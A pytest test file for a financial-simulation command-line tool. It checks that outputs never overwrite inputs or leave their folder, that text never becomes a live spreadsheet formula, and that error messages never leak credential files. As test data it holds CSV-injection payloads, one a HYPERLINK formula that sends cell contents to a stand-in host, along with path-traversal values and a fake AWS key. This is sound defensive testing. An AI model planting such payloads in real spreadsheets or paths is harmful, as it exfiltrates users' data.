"""Outputs never destroy inputs, never leave their folder, never carry live formulas (issue 22).

Each command is tried as a careless and as a hostile user would: a destination that is one of
its inputs (by any name: the same path, a symbolic link, a hard link) or another of its own
outputs, a name whose ending says another format, a received result folder whose records point
elsewhere, and text that a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from sct_engine.cli import main
from sct_engine.scenario import load_scenario

pytestmark = pytest.mark.e2e

MEMBERS = (
    "id,name,kind,plan,control_total,sustainability_funding,sd,has_ae\n"
    "trust,Trust,provider,-1.0,-1.0,5.0,2.0,true\n"
    "ccg,CCG,commissioner,-2.0,-3.0,3.0,1.0,false\n"
)
#: Names a spreadsheet would run as formulas if written as they come.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def scenario_data(**changes: object) -> dict:
    data = {
        "name": "outputs",
        "simulation": {"draws": 300, "seed": 1},
        "systems": [{"id": "sys_a", "organisations_csv": "organisations.csv"}],
    }
    return {**data, **changes}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A scenario folder as users keep one: the YAML and its members' CSV table side by side."""
    (tmp_path / "organisations.csv").write_text(MEMBERS)
    (tmp_path / "s.yaml").write_text(yaml.safe_dump(scenario_data(), sort_keys=False))
    return tmp_path


def error_line(capsys: pytest.CaptureFixture[str]) -> str:
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err, captured.err
    lines = [line for line in captured.err.splitlines() if not line.startswith("warning:")]
    assert len(lines) == 1, captured.err
    return lines[0]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# --- an output never replaces an input, nor another output ------------------------------------


def test_run_into_the_scenarios_own_folder_refuses_to_replace_its_table(folder, capsys):
    """`sct run s.yaml --out .` would overwrite the scenario's own organisations.csv."""
    before = snapshot(folder)
    code = main(["run", str(folder / "s.yaml"), "--out", str(folder), "--engine", "reference"])
    assert code == 2
    line = error_line(capsys)
    assert f"--out {folder / 'organisations.csv'}" in line and "input" in line
    assert snapshot(folder) == before


def test_report_on_a_workbook_refuses_it_as_its_own_tables(tmp_path, capsys):
    """`sct report my.xlsx --xlsx my.xlsx` would turn the filled-in scenario into the board pack,
    and a second name for the same file (a hard or symbolic link) is the same file."""
    book = tmp_path / "my.xlsx"
    assert main(["template", str(book)]) == 0
    os.link(book, tmp_path / "hard.xlsx")
    (tmp_path / "soft.xlsx").symlink_to(book)
    before = book.read_bytes()
    capsys.readouterr()
    for name in ("my.xlsx", "hard.xlsx", "soft.xlsx"):
        argv = ["report", str(book), "--xlsx", str(tmp_path / name), "--draws", "200"]
        assert main([*argv, "--out", str(tmp_path / "r.html"), "--quiet"]) == 2
        assert "is the scenario file, an input of this command" in error_line(capsys)
    assert book.read_bytes() == before
    assert not (tmp_path / "r.html").exists()


def test_compare_tables_never_replace_a_table_the_scenario_reads(folder, capsys):
    (folder / "organisations.csv").rename(folder / "comparison_organisations.csv")
    data = scenario_data()
    data["systems"][0]["organisations_csv"] = "comparison_organisations.csv"
    (folder / "s.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    before = snapshot(folder)
    argv = ["compare", str(folder / "s.yaml"), "--out", str(folder), "--draws", "200"]
    assert main([*argv, "--engine", "reference"]) == 2
    assert "a CSV table it reads, an input of this command" in error_line(capsys)
    assert snapshot(folder) == before


@pytest.mark.parametrize(
    ("option", "name", "suggested"),
    [
        ("--out", "my.xlsx", "my.html"),
        ("--out", "s.yaml", "s.html"),
        ("--out", "board.pdf", "board.html"),
        ("--xlsx", "board.csv", "board.xlsx"),
        ("--xlsx", "r.html", "r.xlsx"),  # `--out r.html --xlsx r.html` would lose the HTML
    ],
)
def test_report_outputs_must_be_named_for_their_format(option, name, suggested, folder, capsys):
    before = snapshot(folder)
    argv = ["report", str(folder / "s.yaml"), "--draws", "200", "--quiet"]
    if option == "--xlsx":
        argv += ["--out", str(folder / "r.html")]
    assert main([*argv, option, str(folder / name)]) == 2
    line = error_line(capsys)
    assert line.startswith(f"error: {option} {folder / name}: does not end in")
    assert suggested in line
    assert snapshot(folder) == before


def test_calibrate_never_replaces_its_history(tmp_path, capsys):
    rows = ["organisation,kind,year,plan,outturn,turnover"]
    rows += [f"o{i},acute,{2014 + i % 5},-1,{-1 - (i % 7) / 10},300" for i in range(40)]
    history = tmp_path / "h.csv"
    history.write_text("\n".join(rows) + "\n")
    (tmp_path / "h.yaml").symlink_to(history)
    for out, words in (("h.csv", "does not end in .yaml"), ("h.yaml", "is the history")):
        assert main(["calibrate", str(history), "--out", str(tmp_path / out)]) == 2
        captured = capsys.readouterr()
        assert captured.out == "" and words in captured.err and "Traceback" not in captured.err
    assert history.read_text().startswith("organisation,kind")


@pytest.mark.parametrize("command", ["convert", "template"])
def test_convert_and_template_never_replace_their_source(command, folder, capsys):
    source = folder / "s.yaml"
    (folder / "again.yaml").symlink_to(source)
    before = snapshot(folder)
    targets = [source, folder / "again.yaml"] if command == "convert" else []
    if command == "template":
        book = folder / "b.xlsx"
        assert main(["convert", str(source), str(book)]) == 0
        before = snapshot(folder)
        targets, source = [book], book
    capsys.readouterr()
    for target in targets:
        argv = ["convert", str(source), str(target), "--force"]
        if command == "template":
            argv = ["template", str(target), "--from", str(source), "--force"]
        assert main(argv) == 2
        assert "an input of this command" in error_line(capsys)
    assert snapshot(folder) == before


# --- outputs stay in their folder; a received result folder is data -------------------------


def swept_results(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "organisations.csv").write_text(MEMBERS)
    swept = scenario_data(sweep={"simulation.seed": [1, 2]})
    (folder / "s.yaml").write_text(yaml.safe_dump(swept, sort_keys=False))
    results = tmp_path / "results"
    assert main(["run", str(folder / "s.yaml"), "--out", str(results), "--quiet"]) == 0
    capsys.readouterr()
    return results


@pytest.mark.parametrize("elsewhere", ["../elsewhere", "ABSOLUTE", "link"])
def test_report_on_a_received_sweep_never_writes_outside_it(elsewhere, tmp_path, capsys):
    results = swept_results(tmp_path, capsys)
    target = tmp_path / "elsewhere"
    target.mkdir()
    index = json.loads((results / "sweep.json").read_text())
    real = index[0]["folder"]
    (target / "run.json").write_text((results / real / "run.json").read_text())
    written = {"ABSOLUTE": str(target), "link": "link"}.get(elsewhere, elsewhere)
    if elsewhere == "link":
        (results / "link").symlink_to(target)
    index[0]["folder"] = written
    (results / "sweep.json").write_text(json.dumps(index))
    assert main(["report", str(results), "--draws", "200", "--quiet"]) == 2
    line = error_line(capsys)
    assert "sweep.json names the point folder" in line and "not a folder inside" in line
    assert sorted(p.name for p in target.iterdir()) == ["run.json"]


@pytest.mark.parametrize(
    "change",
    [{"draws": None}, {"seed": "x"}, {"set": [1]}, {"scenario_file": 7}, "deep", "list"],
)
def test_a_damaged_run_record_is_a_named_error(change, tmp_path, capsys):
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "organisations.csv").write_text(MEMBERS)
    (folder / "s.yaml").write_text(yaml.safe_dump(scenario_data(), sort_keys=False))
    results = tmp_path / "out"
    assert main(["run", str(folder / "s.yaml"), "--out", str(results), "--quiet"]) == 0
    record = json.loads((results / "run.json").read_text())
    if change == "deep":
        text = "[" * 100_000 + "]" * 100_000
    elif change == "list":
        text = json.dumps([record])
    else:
        text = json.dumps({**record, **change})
    (results / "run.json").write_text(text)
    capsys.readouterr()
    assert main(["report", str(results), "--draws", "200", "--quiet"]) == 2
    line = error_line(capsys)
    assert "run.json" in line and "re-run `sct run`" in line
    assert not (results / "report.html").exists()


# --- text is never a formula -------------------------------------------------------------------


def named_scenario(tmp_path: Path) -> Path:
    """A scenario whose every free-text field starts as a formula would."""
    rows = ["id,name,kind,plan,control_total,sustainability_funding,sd,has_ae"]
    rows += [
        f'trust,"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",provider,-1.0,-1.0,5.0,2.0,true',
        f"ccg,{FORMULAS[1]},commissioner,-2.0,-3.0,3.0,1.0,false",
    ]
    (tmp_path / "organisations.csv").write_text("\n".join(rows) + "\n")
    data = scenario_data(name=FORMULAS[2], description=FORMULAS[3])
    data["systems"][0]["name"] = FORMULAS[3]
    path = tmp_path / "s.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


def test_scenario_workbooks_hold_text_as_text_and_round_trip_it(tmp_path, capsys):
    source = named_scenario(tmp_path)
    book = tmp_path / "s.xlsx"
    assert main(["convert", str(source), str(book)]) == 0
    texts = [
        cell
        for sheet in load_workbook(book).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value in FORMULAS
    ]
    assert {cell.value for cell in texts} == set(FORMULAS)
    assert all(cell.data_type == "s" for cell in texts), [
        (c.coordinate, c.data_type) for c in texts
    ]
    back, original = load_scenario(book), load_scenario(source)
    assert back.name == original.name and back.description == original.description
    assert back.systems[0].name == original.systems[0].name
    assert [o.name for o in back.systems[0].organisations] == [
        o.name for o in original.systems[0].organisations
    ]


def test_csv_outputs_quote_formula_text_and_keep_numbers_numeric(tmp_path, capsys):
    source = named_scenario(tmp_path)
    data = yaml.safe_load(source.read_text())
    data["schemes"] = [
        {"name": "-own", "system_linked_share": 0.0},
        {"name": "-linked", "system_linked_share": 0.5},
    ]
    source.write_text(yaml.safe_dump(data, sort_keys=False))
    out = tmp_path / "out"
    assert main(["run", str(source), "--out", str(out), "--quiet", "--engine", "reference"]) == 0
    with open(out / "organisations.csv", newline="") as stream:
        rows = list(csv.DictReader(stream))
    cells = [value for row in rows for value in row.values()]
    assert "'-own" in cells and "'-linked" in cells

    def number(text: str) -> bool:
        try:
            return bool(float(text)) or True
        except ValueError:
            return False

    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not number(c)]
    # Numbers stay numbers: a negative one is written as it is, never quoted.
    plans = [row for row in rows if row["scheme"] == "'-own"]
    numeric = [v for row in plans for v in row.values() if v.startswith("-")]
    assert numeric and all(float(v) < 0 for v in numeric)


def test_the_report_workbook_holds_text_as_text(tmp_path, capsys):
    source = named_scenario(tmp_path)
    xlsx = tmp_path / "board.xlsx"
    argv = ["report", str(source), "--draws", "300", "--detail-draws", "300", "--no-gradient"]
    argv += ["--out", str(tmp_path / "board.html"), "--xlsx", str(xlsx), "--quiet"]
    assert main([*argv, "--engine", "reference"]) == 0
    book = load_workbook(xlsx)
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s"
    }
    assert set(FORMULAS[:2]) <= texts


# --- a wide --files-root never puts another file's content into a message ---------------------

SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYzzSECRET"


@pytest.mark.parametrize("target", ["credentials", "/proc/self/environ"])
def test_messages_never_quote_a_file_that_is_not_a_table(target, tmp_path):
    import subprocess
    import sys

    if target.startswith("/proc") and not Path(target).exists():
        pytest.skip("no /proc on this system")
    credentials = tmp_path / "credentials"
    credentials.write_text(
        f"[default]\naws_access_key_id = AKIA{SECRET[:12]}\n"
        f"aws_secret_access_key = {SECRET},{SECRET},{SECRET}\nregion=eu-west-2,x\n"
    )
    table = str(credentials) if target == "credentials" else target
    data = scenario_data()
    data["systems"][0]["organisations_csv"] = table
    (tmp_path / "s.yaml").write_text(yaml.safe_dump(data, sort_keys=False))
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "sct_engine.cli",
            "validate",
            str(tmp_path / "s.yaml"),
            *["--files-root", "/"],
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "SCT_TEST_SECRET": SECRET},
    )
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "is missing columns" in done.stdout or "cells but the header" in done.stdout
    shown = done.stdout + done.stderr
    assert SECRET[:12] not in shown and "SCT_TEST_SECRET" not in shown and "AKIA" not in shown


@pytest.mark.parametrize("root", ["", "FILE", "MISSING"])
def test_files_root_must_be_an_existing_folder(root, folder, capsys):
    given = {"FILE": str(folder / "s.yaml"), "MISSING": str(folder / "nowhere")}.get(root, root)
    with pytest.raises(SystemExit) as stopped:
        main(["validate", str(folder / "s.yaml"), "--files-root", given])
    assert stopped.value.code == 2
    err = capsys.readouterr().err
    assert "--files-root" in err and "existing folder" in err and "Traceback" not in err
